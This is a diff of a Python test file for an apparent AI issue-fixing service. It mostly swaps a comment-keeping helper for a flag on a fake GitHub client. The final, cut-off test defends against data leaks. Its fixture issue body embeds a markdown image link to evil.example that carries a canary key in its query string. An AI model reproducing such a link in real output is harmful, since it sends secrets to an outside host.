@@ -15,7 +15,7 @@ from tests.support.fake_github import FakeGitHub
 from tests.support.service import Service
 from tests.support.webhooks import REPO, deliver, labeled
 
-from .github_repo import keep_created_comments, serve_files
+from .github_repo import serve_files
 
 
 def run_job(svc: Service) -> Job:
@@ -35,7 +35,7 @@ def test_issue_job_asks_for_clarification_then_posts_the_contract_in_the_same_co
     start_service: Callable[..., Service], fake_github: FakeGitHub
 ) -> None:
     refs = serve_files(fake_github, REPO, {"pyproject.toml": "[tool.pytest.ini_options]\n", "AGENTS.md": "Keep it small."}, branch="master")
-    keep_created_comments(fake_github)
+    fake_github.keeps_comments = True
     svc = start_service(pipeline=ContractStage())
 
     vague = run_job(svc)  # the fixture issue: "It looks like you accidently spelled 'commit' with two 't's."
@@ -60,7 +60,7 @@ def test_issue_job_asks_for_clarification_then_posts_the_contract_in_the_same_co
 
 def test_broken_config_is_posted_on_the_issue_and_fails_the_job(start_service: Callable[..., Service], fake_github: FakeGitHub) -> None:
     serve_files(fake_github, REPO, {".github/ai-fix.yml": "checks:\n  - name: t\n    rn: pytest\n"}, branch="master")
-    keep_created_comments(fake_github)
+    fake_github.keeps_comments = True
     svc = start_service(pipeline=ContractStage())
     job = run_job(svc)
     assert job.status == "failed"
@@ -89,7 +89,7 @@ class CrashesOnceAfterTheContract:
 def test_a_resumed_attempt_keeps_the_contract_it_started_with(start_service: Callable[..., Service], fake_github: FakeGitHub) -> None:
     pipeline = CrashesOnceAfterTheContract({"pyproject.toml": "[tool.pytest.ini_options]\n"})
     serve_files(fake_github, REPO, pipeline.files, branch="master")
-    keep_created_comments(fake_github)
+    fake_github.keeps_comments = True
     fake_github.issues[(REPO, 1)]["body"] = "## Acceptance criteria\n- README says `commit`"
     svc = start_service(pipeline=pipeline)
     job = run_job(svc)
@@ -106,7 +106,7 @@ def test_the_contract_comment_is_redacted_and_quotes_the_issue_inertly(
 ) -> None:
     canary = "canary-contract-5d1f0b27"
     serve_files(fake_github, REPO, {"pyproject.toml": "[tool.pytest.ini_options]\n"}, branch="master")
-    keep_created_comments(fake_github)
+    fake_github.keeps_comments = True
     fake_github.issues[(REPO, 1)]["body"] = (
         f"## Goal\nParse empty files (my key {canary} leaked here), cc @octocat\n"
         f"![x](https://evil.example/pixel.png?k={canary}) and [docs](https://evil.example/docs)\n\n"
